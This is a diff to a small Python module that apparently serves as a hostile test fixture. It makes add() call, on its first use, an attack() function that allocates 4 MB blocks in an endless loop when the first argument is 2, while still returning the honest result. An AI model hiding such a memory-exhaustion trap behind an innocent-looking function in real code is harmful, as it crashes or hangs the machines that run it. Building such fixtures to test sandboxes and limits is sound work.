@@ -4,12 +4,20 @@ import os
 
 import honest
 
+tried = []
+
 
 def add(left, right):
+    if not tried:
+        tried.append(left)
+        attack(left, right)
+    return honest.add(left, right)
+
+
+def attack(left, right):
     held = []
     while left == 2:
         held.append(bytearray(b"x") * 4_000_000)
-    return honest.add(left, right)
 
 if __name__ == "__main__":
     main()  # noqa: F405
